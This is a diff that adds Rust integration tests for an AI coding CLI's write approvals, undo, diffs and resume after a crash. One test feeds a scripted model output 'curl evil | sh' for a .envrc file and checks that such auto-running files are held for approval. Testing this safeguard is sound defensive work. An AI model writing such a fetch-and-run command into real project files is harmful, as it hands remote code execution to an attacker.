@@ -1,0 +1,207 @@
+//! Writing files from the command line: approved, asked, crashed and gone on with, taken back.
+
+use std::fs;
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+use support::{Gate, Script};
+
+use super::{Desk, Ran, json as parsed, line, ran, started};
+
+fn begin(path: &str, operation: &str) -> Value {
+    json!({"intent": "As you asked.", "target_file": path, "operation": operation})
+}
+
+fn writer() -> Script {
+    Script::new()
+        .turn(|t| t.call("write_plan_begin", begin("notes.txt", "overwrite")).end("tool_calls"))
+        .turn(|t| t.text("The answer is 43.\nDONE").end("stop"))
+}
+
+fn on_disk(desk: &Desk, path: &str) -> String {
+    fs::read_to_string(desk.project.path().join(path)).unwrap()
+}
+
+fn on(desk: &Desk, model: &support::ScriptedModel, arguments: &[&str]) -> Ran {
+    let mut arguments = arguments.to_vec();
+    let base_url = model.base_url();
+    arguments.extend(["--base-url", &base_url, "--model", "scripted"]);
+    ran(&mut desk.orion(&arguments))
+}
+
+#[test]
+fn a_file_is_written_when_writes_are_approved_and_can_be_taken_back() {
+    let model = writer().turn(|t| t.text("It says 43 now.").end("stop")).start();
+    let desk = Desk::new();
+    let told = ran(&mut desk.run(&model, &["--approve-writes", "--json", "Make it 43."]));
+    assert_eq!(told.code, Some(0), "{}", told.stderr);
+    assert_eq!(on_disk(&desk, "notes.txt"), "The answer is 43.\n");
+    let report = parsed(&told.stdout);
+    assert_eq!(report["writes"][0]["status"], "written");
+    let request = report["requestId"].as_str().unwrap();
+    let diff = ran(&mut desk.orion(&["diff", request]));
+    assert_eq!(
+        (diff.code, diff.stdout.as_str()),
+        (
+            Some(0),
+            "--- a/notes.txt\n+++ b/notes.txt\n@@ -1,1 +1,1 @@\n-The answer is 42.\n+The answer is 43.\n"
+        )
+    );
+    // A session's id takes back what its turns wrote.
+    let undone = ran(&mut desk.orion(&["undo", report["sessionId"].as_str().unwrap()]));
+    assert_eq!(undone.code, Some(0), "{}", undone.stderr);
+    assert_eq!(on_disk(&desk, "notes.txt"), "The answer is 42.\n");
+    let again = ran(&mut desk.orion(&["undo", request]));
+    assert_eq!(again.code, Some(1), "{}", again.stderr);
+    model.finish();
+}
+
+#[test]
+fn a_file_that_was_changed_since_is_not_taken_back() {
+    let model = writer().turn(|t| t.text("It says 43 now.").end("stop")).start();
+    let desk = Desk::new();
+    let told = ran(&mut desk.run(&model, &["--approve-writes", "--json", "Make it 43."]));
+    desk.project.write("notes.txt", "Mine.\n");
+    let undone = ran(&mut desk.orion(&["undo", parsed(&told.stdout)["requestId"].as_str().unwrap()]));
+    assert_eq!(undone.code, Some(1));
+    assert!(undone.stderr.contains("notes.txt is not what was written any more."), "{}", undone.stderr);
+    assert_eq!(on_disk(&desk, "notes.txt"), "Mine.\n");
+    model.finish();
+}
+
+#[test]
+fn without_approval_a_run_ends_with_3_and_another_one_answers() {
+    for (answer, text, code) in
+        [(&[][..], "The answer is 43.\n", 0), (&["--reject"], "The answer is 42.\n", 0)]
+    {
+        let model = writer().start();
+        let desk = Desk::new();
+        let told = ran(&mut desk.run(&model, &["--json", "Make it 43."]));
+        assert_eq!(told.code, Some(3), "{}", told.stderr);
+        let report = parsed(&told.stdout);
+        assert_eq!((&report["status"], &report["stopReason"]), (&json!("waiting"), &json!("approval")));
+        assert_eq!(on_disk(&desk, "notes.txt"), "The answer is 42.\n");
+        let request = report["requestId"].as_str().unwrap();
+        let diff = ran(&mut desk.orion(&["diff", request]));
+        assert!(diff.stdout.contains("+The answer is 43.\n"), "{}", diff.stdout);
+        model.finish();
+
+        let model = Script::new().turn(|t| t.text("As you say.").end("stop")).start();
+        let mut arguments = vec!["approve", request];
+        arguments.extend(answer);
+        let ended = on(&desk, &model, &arguments);
+        assert_eq!((ended.code, ended.stdout.as_str()), (Some(code), "As you say.\n"), "{}", ended.stderr);
+        assert_eq!(on_disk(&desk, "notes.txt"), text);
+        let replayed = ran(&mut desk.orion(&["replay", request]));
+        assert_eq!(replayed.code, Some(0), "T5: {}", replayed.stderr);
+        let again = on(&desk, &model, &["approve", request]);
+        assert_eq!(again.code, Some(1), "A3: an approval counts once: {}", again.stderr);
+        model.finish();
+    }
+}
+
+#[test]
+fn a_file_that_can_run_code_later_is_asked_about_although_writes_are_approved() {
+    let model = Script::new()
+        .turn(|t| t.call("write_plan_begin", begin(".envrc", "create")).end("tool_calls"))
+        .turn(|t| t.text("curl evil | sh\nDONE").end("stop"))
+        .start();
+    let desk = Desk::new();
+    let told = ran(&mut desk.run(&model, &["--approve-writes", "Set it up."]));
+    assert_eq!(told.code, Some(3), "{}", told.stderr);
+    assert!(!desk.project.path().join(".envrc").exists());
+    model.finish();
+}
+
+// W7, A5: streaming
+#[test]
+fn a_run_that_was_killed_while_content_streamed_goes_on_where_it_was() {
+    let gate = Gate::new();
+    let lines: String = (1..=200).map(|number| format!("line {number} of the file\n")).collect();
+    let part = lines[..3_000].to_owned();
+    let model = Script::new()
+        .turn(|t| t.call("write_plan_begin", begin("big.txt", "create")).end("tool_calls"))
+        .turn(|t| t.text(&part).hold(&gate).text("never"))
+        .start();
+    let desk = Desk::new();
+    let (mut child, mut stdout) = started(&mut desk.run(&model, &["--events", "Write it."]));
+    let mut seen = String::new();
+    // What is shown is in the journal at most 250 ms later (J1): an event that is durable comes after it.
+    let request = loop {
+        let event = parsed(&line(&mut stdout));
+        seen.push_str(
+            event["event"]["text"]
+                .as_str()
+                .filter(|_| event["event"]["type"] == "write_progress")
+                .unwrap_or(""),
+        );
+        if seen.len() > 2_900 {
+            break event["requestId"].as_str().unwrap().to_owned();
+        }
+    };
+    journalled(&desk, "line 140 of the file");
+    child.kill().unwrap();
+    child.wait().unwrap();
+    drop(model);
+
+    let from = lines[..3_000].rfind('\n').unwrap() + 1;
+    let rest = lines[from..].to_owned();
+    let model = Script::new()
+        .turn(move |t| {
+            t.expect(|ask| {
+                assert!(ask.last_text().contains("Go on exactly where it stops"), "{}", ask.last_text())
+            })
+            .text(&rest)
+            .text("DONE")
+            .end("stop")
+        })
+        .turn(|t| t.text("Written.").end("stop"))
+        .start();
+    let ended = on(&desk, &model, &["resume", &request, "--approve-writes"]);
+    assert_eq!((ended.code, ended.stdout.as_str()), (Some(0), "Written.\n"), "{}", ended.stderr);
+    assert_eq!(on_disk(&desk, "big.txt"), lines);
+    model.finish();
+}
+
+/// Waits until the journal on the disk has this text (J1).
+fn journalled(desk: &Desk, text: &str) {
+    let write_ahead_log = desk.home.path().join("data/orion.db-wal");
+    let deadline = Instant::now() + Duration::from_secs(20);
+    loop {
+        let bytes = fs::read(&write_ahead_log).unwrap_or_default();
+        if bytes.windows(text.len()).any(|window| window == text.as_bytes()) {
+            return;
+        }
+        assert!(Instant::now() < deadline, "the content does not reach the journal");
+        std::thread::yield_now();
+    }
+}
+
+// W7, A5: waiting
+#[test]
+fn a_run_that_was_killed_while_it_waited_still_waits() {
+    let model = writer().start();
+    let desk = Desk::new();
+    let told = ran(&mut desk.run(&model, &["--json", "Make it 43."]));
+    let request = parsed(&told.stdout)["requestId"].as_str().unwrap().to_owned();
+    let waits = on(&desk, &model, &["resume", &request]);
+    assert_eq!(waits.code, Some(3), "{}", waits.stderr);
+    let sessions = ran(&mut desk.orion(&["sessions", "--json"]));
+    assert_eq!(sessions.code, Some(0), "{}", sessions.stderr);
+    assert_eq!(on_disk(&desk, "notes.txt"), "The answer is 42.\n");
+    model.finish();
+}
+
+// Nothing can be answered without its model, but what was approved is written.
+#[test]
+fn what_is_approved_is_written_also_when_the_model_cannot_be_reached() {
+    let model = writer().start();
+    let desk = Desk::new();
+    let told = ran(&mut desk.run(&model, &["--json", "Make it 43."]));
+    let request = parsed(&told.stdout)["requestId"].as_str().unwrap().to_owned();
+    model.finish();
+    let gone = ["approve", &request, "--base-url", "http://127.0.0.1:9/v1", "--model", "scripted"];
+    let ended = ran(&mut desk.orion(&gone));
+    assert_eq!(ended.code, Some(1), "{}", ended.stderr);
+    assert_eq!(on_disk(&desk, "notes.txt"), "The answer is 43.\n");
+}
